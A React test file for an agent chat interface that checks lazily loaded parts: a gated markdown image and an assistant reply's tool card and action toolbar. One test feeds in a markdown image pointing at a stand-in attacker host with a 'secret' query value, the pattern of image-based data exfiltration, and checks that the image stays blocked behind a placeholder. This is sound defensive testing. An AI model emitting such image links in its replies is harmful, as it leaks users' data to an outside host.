import { render, screen } from '@testing-library/react';
import type { AgentUIMessage, AgentUIMessagePart } from '@x/agent-protocol';
import { describe, expect, it } from 'vitest';
import { AgentUIProvider } from '../config.js';
import { StreamingMarkdown } from '../markdown/streaming-markdown.js';
import { WithMessageContext } from '../test-utils/message-context.js';
import { AgentMessage } from '../transcript/agent-message.js';

// A fresh module graph per test file: the on-demand chunk is not loaded when this file starts, so
// these tests see the stand-ins first, then the parts once the chunk is there.

describe('the on-demand chunk', () => {
  it('a gated image: its stand-in loads nothing, then the gate shows its placeholder', async () => {
    const { container } = render(
      <AgentUIProvider>
        <StreamingMarkdown text="Here: ![chart](https://attacker.example/collect?q=secret)" />
      </AgentUIProvider>,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container).toHaveTextContent('chart');
    await screen.findByRole('button', { name: /Image from attacker\.example/ });
    expect(container.querySelector('img')).toBeNull();
  });

  it("a reply's tool card and toolbar: stand-ins without a role or buttons, then the card and the actions", async () => {
    const message: AgentUIMessage = {
      id: 'a1',
      role: 'assistant',
      parts: [
        { type: 'tool-lookup', toolCallId: 't1', state: 'output-available', input: { id: 1 }, output: { status: 'shipped' } } as unknown as AgentUIMessagePart,
        { type: 'text', text: 'Shipped.' },
      ],
    };
    render(
      <AgentUIProvider>
        <WithMessageContext>
          <AgentMessage message={message} />
        </WithMessageContext>
      </AgentUIProvider>,
    );
    expect(screen.getByText('Shipped.')).toBeInTheDocument();
    expect(screen.queryByRole('group', { name: 'lookup finished' })).toBeNull();
    expect(screen.queryByRole('toolbar')).toBeNull();
    expect(await screen.findByRole('group', { name: 'lookup finished' })).toHaveTextContent('status: shipped');
    expect(await screen.findByRole('toolbar', { name: 'Message actions' })).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Copy' })).toBeInTheDocument();
  });
});
